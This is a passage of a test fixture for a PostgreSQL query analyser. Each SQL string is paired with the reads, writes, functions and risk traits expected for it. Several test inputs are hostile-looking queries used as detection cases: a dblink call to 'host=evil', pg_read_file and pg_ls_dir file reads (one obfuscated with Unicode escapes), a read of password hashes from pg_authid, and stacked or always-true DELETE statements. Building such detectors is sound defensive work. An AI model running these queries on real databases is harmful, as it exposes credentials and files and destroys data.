  { sql: 'SHOW search_path', expect: [{ verbs: ['SHOW'] }] },
  { sql: 'DISCARD ALL', expect: [{ verbs: ['DISCARD'], traits: ['discard', 'search_path_change'] }] },
  {
    sql: 'SELECT * FROM people FOR UPDATE',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        traits: ['for_update'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT id FROM people UNION SELECT id FROM secrets ORDER BY id',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people', 'public.secrets'],
        through: ['public.people_archive'],
        columns: [
          'public.people.id other',
          'public.people.id target',
          'public.secrets.id other',
          'public.secrets.id target',
        ],
      },
    ],
  },
  {
    sql: 'SELECT people FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT count(people) FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        functions: ['pg_catalog.count'],
      },
    ],
  },
  {
    sql: 'SELECT row_to_json(people) FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        functions: ['pg_catalog.row_to_json'],
      },
    ],
  },
  {
    sql: 'SELECT x.* FROM people, row_to_json(people) x',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* other'],
        functions: ['pg_catalog.row_to_json'],
      },
    ],
  },
  {
    sql: 'SELECT name AS card FROM people ORDER BY card',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.name other', 'public.people.name target'],
      },
    ],
  },
  {
    sql: 'SELECT name AS n FROM people GROUP BY n ORDER BY n',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.name other', 'public.people.name target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM parts_2026',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.parts_2026'],
        through: ['public.parts'],
        columns: ['public.parts_2026.* target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM ONLY people',
    expect: [{ verbs: ['SELECT'], reads: ['public.people'], columns: ['public.people.* target'] }],
  },
  { sql: "SELECT 'x'::checked", expect: [{ verbs: ['SELECT'], functions: ['public.check_it'] }] },
  {
    sql: "CREATE SUBSCRIPTION s CONNECTION 'host=x password=y' PUBLICATION p",
    expect: [
      {
        verbs: ['CREATE SUBSCRIPTION'],
        traits: ['network_access'],
        writes: true,
        record: "CREATE SUBSCRIPTION s CONNECTION '[redacted]' PUBLICATION p",
      },
    ],
  },
  {
    sql: "CREATE USER MAPPING FOR x SERVER y OPTIONS (password 'abc')",
    expect: [
      {
        verbs: ['CREATE USER MAPPING'],
        traits: ['network_access'],
        writes: true,
        record: "CREATE USER MAPPING FOR x SERVER y OPTIONS (password '[redacted]')",
      },
    ],
  },
  {
    sql: "SELECT pgp_sym_encrypt('a', 'key')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['?pgp_sym_encrypt'],
        unknown: ['unresolved_function'],
        writes: true,
        record: "SELECT pgp_sym_encrypt('[redacted]', '[redacted]')",
      },
    ],
  },
  {
    sql: "SELECT dblink('host=evil', 'select 1')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['?dblink'],
        traits: ['dynamic_sql', 'network_access'],
        unknown: ['dynamic_sql', 'unresolved_function'],
        writes: true,
        record: "SELECT dblink('[redacted]', '[redacted]')",
      },
    ],
  },
  {
    sql: 'SELECT 1; DELETE FROM people; SELECT 2',
    expect: [
      { verbs: ['SELECT'] },
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
      { verbs: ['SELECT'] },
    ],
  },
  {
    sql: 'SET search_path = shadow; SELECT * FROM people',
    expect: [
      { verbs: ['SET'], traits: ['search_path_change'] },
      { verbs: ['SELECT'], reads: ['shadow.people'], columns: ['shadow.people.* target'] },
    ],
  },
  {
    sql: 'CREATE TABLE x(a int); SELECT * FROM people',
    expect: [
      { verbs: ['CREATE TABLE'], defines: ['public.x'], writes: true },
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        unknown: ['catalogue_in_flux'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE/**/FROM/* WHERE id=1 */people -- WHERE id = 2',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DeLeTe FrOm PuBlIc.PeOpLe',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people p WHERE p.id = p.id',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE (id, name) = (id, name)',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter', 'public.people.name filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id IN (SELECT 1 UNION SELECT 2)',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE 1 IN (1, 2)',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "DELETE FROM people WHERE now() > '2000-01-01'",
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        functions: ['pg_catalog.now'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE (SELECT true)',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id = 1 AND true',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE true AND (1 = 1 OR id = 3)',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE NOT (false)',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE true IS NOT NULL',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE CASE WHEN true THEN true ELSE false END',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id IS NOT DISTINCT FROM id',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE $$a$$ = $x$a$x$',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id BETWEEN 1 AND 5',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people AS orders USING orders AS people WHERE people.id = 1',
    expect: [
      {
        verbs: ['DELETE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id = (SELECT id)',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter', 'public.people.id target'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id = ANY (ARRAY[id])',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'UPDATE people p SET name = o.note FROM orders o',
    expect: [
      {
        verbs: ['UPDATE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.note other', 'public.people.name write'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "UPDATE people_public SET name = 'x'",
    expect: [
      {
        verbs: ['UPDATE'],
        writesTo: ['public.people_public'],
        through: ['public.people'],
        columns: ['public.people_public.name write'],
        unfiltered: ['public.people_public'],
        writes: true,
      },
    ],
  },
  {
    sql: "INSERT INTO cards VALUES ('x')",
    expect: [
      {
        verbs: ['INSERT'],
        writesTo: ['public.cards'],
        through: ['public.people'],
        columns: ['public.cards.* write'],
        writes: true,
      },
    ],
  },
  {
    sql: "WITH x AS MATERIALIZED (INSERT INTO secrets VALUES (1) RETURNING id), y AS (UPDATE people SET name = 'x' FROM x) SELECT 1",
    expect: [
      {
        verbs: ['SELECT', 'INSERT', 'UPDATE'],
        writesTo: ['public.people', 'public.secrets'],
        through: ['public.people_archive'],
        columns: ['public.people.name write', 'public.secrets.* write', 'public.secrets.id target'],
        unfiltered: ['public.people'],
        traits: ['has_cascades', 'returning', 'writable_cte'],
        writes: true,
      },
    ],
  },
  {
    sql: 'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < (SELECT count(*) FROM secrets)) SELECT n FROM t',
    expect: [{ verbs: ['SELECT'], reads: ['public.secrets'], functions: ['pg_catalog.count'] }],
  },
  {
    sql: 'WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT card FROM people) SELECT card FROM a',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT (WITH d AS (SELECT token FROM secrets) SELECT token FROM d)',
    expect: [{ verbs: ['SELECT'], reads: ['public.secrets'], columns: ['public.secrets.token target'] }],
  },
  {
    sql: 'SELECT ARRAY(SELECT card FROM people), EXISTS (SELECT 1 FROM secrets), 5 > ALL (SELECT id FROM orders)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders', 'public.people', 'public.secrets'],
        through: ['public.people_archive'],
        columns: ['public.orders.id target', 'public.people.card target'],
      },
    ],
  },
  {
    sql: 'VALUES ((SELECT card FROM people LIMIT 1))',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM people NATURAL JOIN secrets',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people', 'public.secrets'],
        through: ['public.people_archive'],
        columns: [
          'public.people.* target',
          'public.people.id filter',
          'public.secrets.* target',
          'public.secrets.id filter',
        ],
      },
    ],
  },
  {
    sql: 'SELECT * FROM (people p JOIN secrets s ON p.id = s.id) AS j',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people', 'public.secrets'],
        through: ['public.people_archive'],
        columns: [
          'public.people.* target',
          'public.people.id filter',
          'public.secrets.* target',
          'public.secrets.id filter',
        ],
      },
    ],
  },
  {
    sql: 'SELECT j.token FROM (people p JOIN secrets s ON p.id = s.id) AS j',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people', 'public.secrets'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter', 'public.secrets.id filter', 'public.secrets.token target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM ROWS FROM (generate_series(1, 2), wipe()) AS r(a, b)',
    expect: [{ verbs: ['SELECT'], functions: ['pg_catalog.generate_series', 'public.wipe'], writes: true }],
  },
  {
    sql: 'SELECT * FROM people TABLESAMPLE bernoulli (50)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        functions: ['pg_catalog.bernoulli'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM people TABLESAMPLE nowhere.evil (50)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        functions: ['?evil'],
        unknown: ['unresolved_function'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT xmltable.x FROM people, XMLTABLE('/a' PASSING notes::xml COLUMNS x text PATH 'b' DEFAULT wipe()::text)",
    expect: [
      {
        verbs: ['UNKNOWN'],
        unknown: ['parse_error'],
        writes: true,
        record:
          "SELECT xmltable.x FROM people, XMLTABLE('[redacted]' PASSING notes::xml COLUMNS x text PATH '[redacted]' DEFAULT wipe()::text)",
      },
    ],
  },
  {
    sql: "SELECT jt.c FROM people, JSON_TABLE(notes::jsonb, '$[*]' COLUMNS (c text PATH '$.card')) AS jt",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.notes other'],
      },
    ],
    since: 180_000,
  },
  {
    sql: "SELECT JSON_VALUE(notes::jsonb, '$.a'), JSON_OBJECT('a': card), JSON_ARRAYAGG(ssn) FROM people",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.notes target', 'public.people.ssn target'],
      },
    ],
    since: 180_000,
  },
  {
    sql: 'SELECT JSON_ARRAY(SELECT card FROM people)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
    since: 180_000,
  },
  {
    sql: 'SELECT XMLELEMENT(NAME a, card) FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: "SELECT CASE card WHEN 'x' THEN ssn ELSE notes END FROM people",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.notes target', 'public.people.ssn target'],
      },
    ],
  },
  {
    sql: 'SELECT COALESCE(card, ssn), GREATEST(email, phone), NULLIF(name, notes) FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: [
          'public.people.card target',
          'public.people.email target',
          'public.people.name target',
          'public.people.notes target',
          'public.people.phone target',
          'public.people.ssn target',
        ],
      },
    ],
  },
  {
    sql: "SELECT count(*) FILTER (WHERE card = 'x') OVER (PARTITION BY ssn ORDER BY phone) FROM people",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.phone target', 'public.people.ssn target'],
        functions: ['pg_catalog.count'],
      },
    ],
  },
  {
    sql: "SELECT string_agg(card, ',' ORDER BY ssn) FROM people",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.ssn target'],
        functions: ['pg_catalog.string_agg'],
      },
    ],
  },
  {
    sql: 'SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY id) FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id target'],
        functions: ['pg_catalog.percentile_cont'],
      },
    ],
  },
  {
    sql: 'SELECT rank() OVER w FROM people WINDOW w AS (ORDER BY card)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card other'],
        functions: ['pg_catalog.rank'],
      },
    ],
  },
  {
    sql: "SELECT 1 FROM people GROUP BY GROUPING SETS ((card), ()) HAVING max(ssn) > 'a'",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card other', 'public.people.ssn filter'],
        functions: ['pg_catalog.max'],
      },
    ],
  },
  {
    sql: 'SELECT DISTINCT ON (card) id FROM people ORDER BY card, id',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card other', 'public.people.id other', 'public.people.id target'],
      },
    ],
  },
  {
    sql: 'SELECT id FROM people ORDER BY id USING OPERATOR(public.===)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id other', 'public.people.id target'],
        unknown: ['user_operator'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT 'a' OPERATOR(pg_catalog.=) 'b', 'a' OPERATOR(public.===) 'b'",
    expect: [{ verbs: ['SELECT'], unknown: ['user_operator'], writes: true }],
  },
  {
    sql: 'SELECT notes COLLATE "C", name || card AT TIME ZONE \'UTC\' FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.name target', 'public.people.notes target'],
        functions: ['pg_catalog.timezone'],
      },
    ],
  },
  {
    sql: "SELECT (ARRAY[card])[1], (notes::jsonb)['a'] FROM people",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.notes target'],
      },
    ],
  },
  {
    sql: "SELECT EXTRACT(year FROM now()), SUBSTRING(card FROM 1 FOR 4), POSITION('a' IN ssn), OVERLAY(phone PLACING 'x' FROM 1), TRIM(BOTH FROM email) FROM people",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: [
          'public.people.card target',
          'public.people.email target',
          'public.people.phone target',
          'public.people.ssn target',
        ],
        functions: [
          'pg_catalog.btrim',
          'pg_catalog.extract',
          'pg_catalog.now',
          'pg_catalog.overlay',
          'pg_catalog.position',
          'pg_catalog.substring',
        ],
      },
    ],
  },
  {
    sql: 'SELECT current_user, session_user, current_catalog, current_date, localtimestamp',
    expect: [{ verbs: ['SELECT'] }],
  },
  {
    sql: 'SELECT "pg_catalog"."pg_read_file"(\'x\')',
    expect: [
      { verbs: ['SELECT'], functions: ['pg_catalog.pg_read_file'], traits: ['file_access'], writes: true },
    ],
  },
  {
    sql: "SELECT PG_CATALOG . /* */ pg_ls_dir ('.')",
    expect: [
      { verbs: ['SELECT'], functions: ['pg_catalog.pg_ls_dir'], traits: ['file_access'], writes: true },
    ],
  },
  {
    sql: "SELECT * FROM pg_ls_dir('.') AS f",
    expect: [
      { verbs: ['SELECT'], functions: ['pg_catalog.pg_ls_dir'], traits: ['file_access'], writes: true },
    ],
  },
  {
    sql: 'SELECT U&"pg\\005Fread\\005Ffile"(\'x\')',
    expect: [
      { verbs: ['SELECT'], functions: ['pg_catalog.pg_read_file'], traits: ['file_access'], writes: true },
    ],
  },
  {
    sql: 'SELECT pg_sleep(10), pg_terminate_backend(1), pg_cancel_backend(2), pg_reload_conf()',
    expect: [
      {
        verbs: ['SELECT'],
        functions: [
          'pg_catalog.pg_cancel_backend',
          'pg_catalog.pg_reload_conf',
          'pg_catalog.pg_sleep',
          'pg_catalog.pg_terminate_backend',
        ],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT lo_get(1), loread(1, 2), lo_put(1, 2, 'x')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.lo_get', 'pg_catalog.lo_put', 'pg_catalog.loread'],
        traits: ['large_object'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT pg_advisory_lock(1), pg_notify('a', 'b')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.pg_advisory_lock', 'pg_catalog.pg_notify'],
        traits: ['advisory_lock', 'listen_notify'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT currval('tickets'), lastval(), random(), now(), gen_random_uuid(), txid_current()",
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['sequence_state'],
        reads: ['public.tickets'],
        functions: [
          'pg_catalog.currval',
          'pg_catalog.gen_random_uuid',
          'pg_catalog.lastval',
          'pg_catalog.now',
          'pg_catalog.random',
          'pg_catalog.txid_current',
        ],
      },
    ],
  },
  {
    sql: "SELECT setval('tickets', (SELECT max(id) FROM people))",
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['sequence_state'],
        reads: ['public.people'],
        writesTo: ['public.tickets'],
        through: ['public.people_archive'],
        columns: ['public.people.id target'],
        functions: ['pg_catalog.max', 'pg_catalog.setval'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT nextval(note) FROM orders',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['public.orders.note target'],
        functions: ['pg_catalog.nextval'],
        traits: ['dynamic_sequence', 'sequence_state'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT 'lower(int4)'::regprocedure, 'wipe'::regproc, 'postgres'::regrole",
    expect: [
      { verbs: ['SELECT'], functions: ['pg_catalog.lower', 'public.lower', 'public.wipe'], writes: true },
    ],
  },
  {
    sql: 'SELECT (note)::regclass FROM orders',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['public.orders.note target'],
        traits: ['dynamic_name'],
      },
    ],
  },
  {
    sql: "SELECT pg_get_viewdef('cards'), has_table_privilege('people', 'select')",
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['definition_texts'],
        functions: ['pg_catalog.has_table_privilege', 'pg_catalog.pg_get_viewdef'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM pg_authid',
    expect: [
      { verbs: ['SELECT'], reads: ['pg_catalog.pg_authid'], columns: ['pg_catalog.pg_authid.* target'] },
    ],
  },
  {
    sql: 'SELECT * FROM pg_roles',
    expect: [
      { verbs: ['SELECT'], reads: ['pg_catalog.pg_roles'], columns: ['pg_catalog.pg_roles.* target'] },
    ],
  },
  {
    sql: 'SELECT rolpassword FROM pg_catalog.pg_authid',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['pg_catalog.pg_authid'],
        columns: ['pg_catalog.pg_authid.rolpassword target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM information_schema.columns',
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['definition_texts'],
        reads: ['information_schema.columns'],
        columns: ['information_schema.columns.* target'],
      },
    ],
  },
  {
    sql: 'SELECT most_common_vals FROM pg_stats',
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['column_statistics'],
        reads: ['pg_catalog.pg_stats'],
        columns: ['pg_catalog.pg_stats.most_common_vals target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM pg_toast.pg_toast_1255',
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['stored_values'],
        reads: ['pg_toast.pg_toast_1255'],
        through: ['pg_catalog.pg_proc'],
        columns: ['pg_toast.pg_toast_1255.* target'],
      },
    ],
  },
  {
    sql: 'SELECT ctid, xmin, tableoid::regclass FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.ctid target', 'public.people.tableoid target', 'public.people.xmin target'],
        traits: ['dynamic_name'],
      },
    ],
  },
  {
    sql: 'SELECT people.ctid FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.ctid target'],
      },
    ],
  },
  {
    sql: 'SELECT public.people.card FROM public.people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT public.people.card FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT people.card FROM public.people p',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['.people target'],
        unknown: ['unresolved_column'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT card FROM people p JOIN LATERAL (SELECT p.card AS x, ssn FROM orders) o ON true',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders', 'public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.ssn target'],
      },
    ],
  },
  {
    sql: 'SELECT id FROM people, orders',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders', 'public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.id target', 'public.people.id target'],
      },
    ],
  },
  {
    sql: 'SELECT card FROM orders',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['.card target'],
        unknown: ['unresolved_column'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT card(p) FROM people p',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        functions: ['?card'],
        unknown: ['unresolved_function'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT p.name, (SELECT card FROM people q WHERE q.id = p.id) FROM people p',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target', 'public.people.id filter', 'public.people.name target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM people p WHERE p.* IS NOT NULL',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* filter', 'public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT ROW(p.*), ROW(p.card, 1) FROM people p',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target', 'public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT (SELECT p) FROM people p',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: "SELECT to_jsonb(p) - 'card' FROM people p",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        functions: ['pg_catalog.to_jsonb'],
      },
    ],
  },
  {
    sql: 'SELECT "t"."card" FROM (TABLE people) AS t',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT t.a FROM (VALUES ((SELECT card FROM people))) AS t(a)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT upper((SELECT token FROM secrets WHERE id = x.id)) FROM secrets x',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.secrets'],
        columns: ['public.secrets.id filter', 'public.secrets.token target'],
        functions: ['pg_catalog.upper'],
      },
    ],
  },
  {
    sql: '(SELECT card FROM people) INTERSECT (SELECT token FROM secrets) EXCEPT SELECT note FROM orders',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders', 'public.people', 'public.secrets'],
        through: ['public.people_archive'],
        columns: [
          'public.orders.note other',
          'public.orders.note target',
          'public.people.card other',
          'public.people.card target',
          'public.secrets.token other',
          'public.secrets.token target',
        ],
      },
    ],
  },
  {
    sql: "INSERT INTO orders (id, note) SELECT id, card FROM people WHERE ssn = 'x' RETURNING note",
    expect: [
      {
        verbs: ['INSERT'],
        reads: ['public.people'],
        writesTo: ['public.orders'],
        through: ['public.people_archive'],
        columns: [
          'public.orders.id write',
          'public.orders.note target',
          'public.orders.note write',
          'public.people.card target',
          'public.people.id target',
          'public.people.ssn filter',
        ],
        traits: ['has_triggers', 'returning'],
        writes: true,
      },
    ],
  },
  {
    sql: 'INSERT INTO people (id) VALUES ((DELETE FROM secrets))',
    expect: [{ verbs: ['UNKNOWN'], unknown: ['parse_error'], writes: true }],
  },
  {
